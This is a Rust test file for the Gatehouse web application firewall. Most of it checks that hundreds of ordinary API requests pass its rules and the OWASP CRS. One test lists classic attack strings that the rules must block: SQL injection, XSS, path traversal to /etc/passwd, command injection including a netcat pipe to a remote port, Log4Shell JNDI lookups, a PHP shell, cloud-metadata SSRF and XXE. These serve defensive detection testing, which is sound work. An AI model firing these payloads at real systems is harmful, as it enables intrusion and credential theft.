//! Requests of ordinary API clients, none of which may be refused at paranoia 1: by the rules that come with Gatehouse, and by the
//! OWASP CRS where it is at hand.

#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::PathBuf;
use std::sync::Arc;

use gatehouse_waf::{Connection, Limits, Options, RuleSet, RuleSource, Transaction, Verdict, builtin};

/// What people type and machines send.
const TEXTS: &[&str] = &[
    "garden chair",
    "O'Reilly & Sons",
    "Crème brûlée, 2 portions",
    "Straße 12, 8010 Graz",
    "東京都渋谷区",
    "Привет, как дела?",
    "مرحبا بالعالم",
    "Please ring twice; the bell is broken.",
    "Order #4711 arrived damaged (box 2 of 3)",
    "3.5 mm jack, 1.2 m cable",
    "50% off selected items",
    "C-1001/A",
    "ana.maria+shop@example.com",
    "+43 316 873-0",
    "https://shop.example.com/products/42?ref=mail",
    "2026-11-24T10:15:00Z",
    "2026-11-24T10:15:00.000+01:00",
    "550e8400-e29b-41d4-a716-446655440000",
    "f47ac10b58cc4372a5670e02b2c3d479",
    "dGhpcyBpcyBhIHRlc3Q=",
    "#ff8800",
    "-12.75",
    "1,234.56 EUR",
    "true",
    "null",
    "en-GB,en;q=0.8",
    "Select your seat and union membership card",
    "Where can I find the update from last week?",
    "We like the new design and order it again",
    "Not in stock or discontinued",
    "The table was dropped during delivery",
    "from Vienna to Graz, return on Sunday",
    "He said: \"see you at 5\"",
    "AT&T and Barnes & Noble",
    "5 < 7",
    "a <- b means assignment in R",
    "if x = 3 then y = 4",
    "price: 19.99, tax: 20%, total: 23.99",
    "Line one\nLine two\nLine three",
    "Tab\tseparated\tvalues",
    "C++ and C# developers",
    "file.tar.gz",
    "report_2026-Q3.final.pdf",
    "images/2026/11/photo-0042.jpeg",
    "v1.2.3-beta.4+build.567",
    "key=value",
    "role:admin",
    "orders.read orders.write openid profile",
    "urn:ietf:params:oauth:grant-type:token-exchange",
    "arn:aws:s3:::my-bucket/reports",
    "/subscriptions/1234/resourceGroups/lab",
    "10.0.0.0/8",
    "2001:db8::1",
    "SGVsbG8sIFdvcmxkIQ",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbmEifQ.c2lnbmF0dXJl",
    "POINT (30 10)",
    "48.2082,16.3738",
    "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
    "😀 great service 👍",
    "The cat sat on the mat.",
    "id",
    "John O'Connor-Smith Jr.",
    "Rock 'n' roll",
    "Don't forget: milk, eggs & bread!",
    "Can you call me back? My number is 555-0199.",
    "Q&A session @ 3pm",
    "50/50",
    "1 or 2 pieces",
    "user@host:/path",
    "x-large",
    "N/A",
    "CEO's office",
    "Script for the school play",
    "on time delivery = happy customers",
    "Java and JavaScript are different languages",
    "Update: the parcel is on its way",
    "insert coin to continue",
    "Set the alarm for 7:30",
    "exec summary attached",
    "Windows 11, 64-bit",
    "echo of the past",
    "ping me when ready",
];

struct Plain {
    name: String,
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
}

fn plain(name: String, method: &'static str, target: String, media_type: &str, body: Vec<u8>) -> Plain {
    let mut headers = vec![
        ("host", "api.contoso.example".to_owned()),
        ("user-agent", "contoso-app/3.2 (Android 14; Pixel 8)".to_owned()),
        ("accept", "application/json".to_owned()),
        ("accept-encoding", "gzip, deflate, br".to_owned()),
        ("accept-language", "en-GB,en;q=0.8".to_owned()),
        ("authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbmEifQ.c2lnbmF0dXJl".to_owned()),
        ("x-request-id", "7b1f9a52-0b62-4a9c-9a0f-0d6a3b1f2c11".to_owned()),
    ];
    if !media_type.is_empty() {
        headers.push(("content-type", media_type.to_owned()));
    }
    if !body.is_empty() || method == "POST" || method == "PUT" {
        headers.push(("content-length", body.len().to_string()));
    }
    Plain { name, method, target, headers, body }
}

fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut output, byte| {
        if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) {
            output.push(char::from(byte));
        } else {
            let _ = write!(output, "%{byte:02X}");
        }
        output
    })
}

fn json(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

fn xml(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

fn requests() -> Vec<Plain> {
    let mut all = Vec::new();
    for (at, text) in TEXTS.iter().enumerate() {
        let named = |kind: &str| format!("{kind}: {text}");
        all.push(plain(
            named("query"),
            "GET",
            format!("/products?q={}&page=2", percent(text)),
            "",
            Vec::new(),
        ));
        let body = format!(
            r#"{{"id":{at},"title":{0},"tags":["new",{0}],"nested":{{"note":{0}}},"active":true}}"#,
            json(text)
        );
        all.push(plain(named("json"), "POST", "/orders".into(), "application/json", body.clone().into()));
        all.push(plain(
            named("merge patch"),
            "PATCH",
            format!("/orders/{at}"),
            "application/merge-patch+json",
            body.into(),
        ));
        let body = format!("name=Ada+Lovelace&message={}", percent(text).replace("%20", "+"));
        all.push(plain(
            named("form"),
            "POST",
            "/contact".into(),
            "application/x-www-form-urlencoded",
            body.into(),
        ));
        let body = format!(
            r#"{{"data":{{"type":"articles","id":"{at}","attributes":{{"title":{}}},"relationships":{{"author":{{"data":{{"type":"people","id":"9"}}}}}}}}}}"#,
            json(text)
        );
        all.push(plain(
            named("json:api"),
            "POST",
            "/articles".into(),
            "application/vnd.api+json",
            body.into(),
        ));
        let body = format!(
            r#"{{"query":"query Search($text: String!, $first: Int = 10) {{ products(filter: {{text: $text}}, first: $first) {{ edges {{ node {{ id name price }} }} pageInfo {{ hasNextPage endCursor }} }} }}","variables":{{"text":{}}},"operationName":"Search"}}"#,
            json(text)
        );
        all.push(plain(named("graphql"), "POST", "/graphql".into(), "application/json", body.into()));
        if !text.contains(['\n', '\t']) {
            let body = format!(
                "<?xml version=\"1.0\" encoding=\"utf-8\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><AddNote xmlns=\"http://contoso.example/notes\"><Text>{}</Text></AddNote></soap:Body></soap:Envelope>",
                xml(text)
            );
            all.push(plain(
                named("soap"),
                "POST",
                "/soap/notes".into(),
                "text/xml; charset=utf-8",
                body.into(),
            ));
            let body = format!(
                "--gatehouse7MA4\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{text}\r\n--gatehouse7MA4\r\nContent-Disposition: form-data; name=\"file\"; filename=\"photo-{at}.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\u{ff}not really\r\n--gatehouse7MA4--\r\n"
            );
            all.push(plain(
                named("multipart"),
                "POST",
                "/uploads".into(),
                "multipart/form-data; boundary=gatehouse7MA4",
                body.into(),
            ));
        }
    }
    let odata = [
        "$filter=Price%20lt%2020%20and%20Category%20eq%20'Toys'&$orderby=Price%20desc",
        "$select=Name,Price&$expand=Supplier($select=City)&$top=10&$skip=20&$count=true",
        "$filter=startswith(Name,'A')%20or%20contains(Description,'red')",
        "$filter=CreatedAt%20ge%202026-01-01T00:00:00Z%20and%20not%20(Status%20eq%20'closed')",
        "$apply=groupby((Category),aggregate(Price%20with%20sum%20as%20Total))",
        "$search=blue%20OR%20green",
    ];
    for query in odata {
        all.push(plain(format!("odata: {query}"), "GET", format!("/odata/Products?{query}"), "", Vec::new()));
    }
    let graphql = [
        "{ user(id: 4) { name friends(first: 5) { name } } }",
        "query ($id: ID!, $withFriends: Boolean!) { user(id: $id) { name friends @include(if: $withFriends) { name } } }",
        "mutation AddNote($input: NoteInput!) { addNote(input: $input) { note { id } errors { message } } }",
        "subscription OnOrder($id: ID!) { orderChanged(id: $id) { status } }",
        "fragment F on User { id name } query { me { ...F } }",
        "query { __schema { types { name fields { name } } } }",
    ];
    for query in graphql {
        let body =
            format!(r#"{{"query":{},"variables":{{"id":"4711","input":{{"text":"hello"}}}}}}"#, json(query));
        all.push(plain(
            format!("graphql: {query}"),
            "POST",
            "/graphql".into(),
            "application/json",
            body.into(),
        ));
        all.push(plain(
            format!("graphql get: {query}"),
            "GET",
            format!("/graphql?query={}", percent(query)),
            "",
            Vec::new(),
        ));
    }
    for (method, target, media_type, body) in [
        ("GET", "/", "", ""),
        ("HEAD", "/orders/4711", "", ""),
        ("DELETE", "/orders/4711/lines/2", "", ""),
        ("OPTIONS", "/orders", "", ""),
        ("PUT", "/orders/4711", "application/json", r#"{"status":"shipped"}"#),
        (
            "PATCH",
            "/orders/4711",
            "application/json-patch+json",
            r#"[{"op":"replace","path":"/status","value":"shipped"},{"op":"test","path":"/a~1b","value":1}]"#,
        ),
        (
            "POST",
            "/events",
            "application/cloudevents+json",
            r#"{"specversion":"1.0","type":"com.example.order","source":"/orders","id":"A234","time":"2026-11-24T10:15:00Z","data":{"n":1}}"#,
        ),
        (
            "POST",
            "/token",
            "application/x-www-form-urlencoded",
            "grant_type=client_credentials&scope=orders.read&client_id=app-1",
        ),
        ("POST", "/batch", "application/x-ndjson", "{\"a\":1}\n{\"a\":2}\n"),
        ("POST", "/blob", "application/octet-stream", "\u{1}\u{2}binary"),
        (
            "GET",
            "/orders?filter[status]=open&sort=-created,name&page[size]=50&include=lines,customer",
            "",
            "",
        ),
        ("GET", "/search?bbox=16.18,48.11,16.57,48.32&time=2026-01-01/2026-12-31", "", ""),
        (
            "GET",
            "/v1/users/me/messages?labelIds=INBOX&maxResults=10&q=from:ana%20subject:(report%20final)",
            "",
            "",
        ),
        ("GET", "/jobs?cron=0%200%20*%20*%20*", "", ""),
        ("GET", "/files/report%20final%20(2).pdf", "", ""),
    ] {
        all.push(plain(format!("{method} {target}"), method, target.into(), media_type, body.into()));
    }
    all
}

fn judge(rules: &Arc<RuleSet>, request: &Plain) -> Option<String> {
    let mut transaction = Transaction::new(rules, Limits::default(), None, &Connection::default());
    transaction.request_line(request.method.as_bytes(), request.target.as_bytes(), b"HTTP/1.1");
    for (name, value) in &request.headers {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    let mut verdict = transaction.end_of_request_header();
    if verdict == Verdict::Pass {
        transaction.request_body(&request.body);
        verdict = transaction.end_of_request_body();
    }
    (verdict != Verdict::Pass).then(|| {
        let matches: Vec<String> = transaction
            .matches()
            .iter()
            .map(|found| format!("{} {} [{}]", found.id, found.variable, found.data))
            .collect();
        format!("{}: {}", request.name, matches.join("; "))
    })
}

fn expect_none_refused(rules: &Arc<RuleSet>) {
    let requests = requests();
    assert!(requests.len() >= 500, "{}", requests.len());
    let refused: Vec<String> = requests.iter().filter_map(|request| judge(rules, request)).collect();
    let mut rules: BTreeMap<&str, usize> = BTreeMap::new();
    for text in &refused {
        *rules.entry(text.split(": ").next().unwrap_or("")).or_default() += 1;
    }
    assert!(refused.is_empty(), "{} of {} refused\n{}", refused.len(), requests.len(), refused.join("\n"));
}

#[test]
fn the_own_rules_refuse_no_ordinary_request() {
    let rules = RuleSet::load(&[builtin::protocol(), builtin::baseline()], &Options::default());
    expect_none_refused(&Arc::new(rules.unwrap_or_else(|errors| panic!("{errors}"))));
}

#[test]
fn the_owasp_crs_refuses_no_ordinary_request_at_paranoia_1() {
    let Some(corpora) = std::env::var_os("GATEHOUSE_CORPORA") else { return };
    let crs = PathBuf::from(corpora).join("crs");
    let sources = [
        builtin::protocol(),
        builtin::api_exclusions(),
        RuleSource::File(crs.join("crs-setup.conf.example")),
        RuleSource::File(crs.join("rules/*.conf")),
    ];
    let options = Options { variables: builtin::crs_variables(1), ..Options::default() };
    expect_none_refused(&Arc::new(
        RuleSet::load(&sources, &options).unwrap_or_else(|errors| panic!("{errors}")),
    ));
}

#[test]
fn the_own_rules_stop_attacks() {
    let rules = RuleSet::load(&[builtin::protocol(), builtin::baseline()], &Options::default());
    let rules = Arc::new(rules.unwrap_or_else(|errors| panic!("{errors}")));
    let attacks = [
        "1' or '1'='1' -- ",
        "1 union select password from users",
        "1; drop table users",
        "sleep(5)",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "../../../../etc/passwd",
        "..\\..\\windows\\system32",
        "/etc/shadow",
        "; cat /etc/passwd",
        "$(id)",
        "`whoami`",
        "| nc 10.0.0.1 4444",
        "() { :; }; echo",
        "${jndi:ldap://x.example/a}",
        "${${lower:j}ndi:ldap://x}",
        "class.module.classLoader",
        "<?php system($_GET[0]);",
        "php://filter/convert.base64-encode/resource=index",
        "__proto__",
        "require('child_process').exec('id')",
        "{{7*7}}",
        "http://169.254.169.254/latest/meta-data/",
        "gopher://127.0.0.1:6379/_INFO",
        "file:///etc/passwd",
        "a\0b",
        "' waitfor delay '0:0:5'--",
    ];
    let missed: Vec<String> = attacks
        .iter()
        .flat_map(|attack| {
            let get =
                plain(format!("query {attack}"), "GET", format!("/x?q={}", percent(attack)), "", Vec::new());
            let body = format!("{{\"a\":{{\"b\":[{}]}}}}", json(attack));
            [get, plain(format!("json {attack}"), "POST", "/x".into(), "application/json", body.into())]
        })
        .filter(|request| judge(&rules, request).is_none())
        .map(|request| request.name)
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn the_own_rules_look_into_bodies_that_no_processor_reads() {
    let rules = RuleSet::load(&[builtin::protocol(), builtin::baseline()], &Options::default());
    let rules = Arc::new(rules.unwrap_or_else(|errors| panic!("{errors}")));
    let judge = |media_type: &str, body: &str| {
        judge(
            &rules,
            &plain(media_type.to_owned(), "POST", "/x".into(), media_type, body.as_bytes().to_vec()),
        )
        .is_some()
    };
    assert!(judge("text/plain", r#"{"name":"<script>alert(1)</script>"}"#));
    assert!(judge("text/plain; charset=utf-8", "a=1' or '1'='1"));
    assert!(judge("application/x-ndjson", "{\"path\":\"../../etc/passwd\"}"));
    assert!(judge("application/xml", "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///x\">]><a>&e;</a>"));
    assert!(!judge("text/plain", "The union of both sets; select one or the other."));
    assert!(!judge("text/csv", "id,name\n1,Ada\n2,\"Grace, or not\"\n"));
}
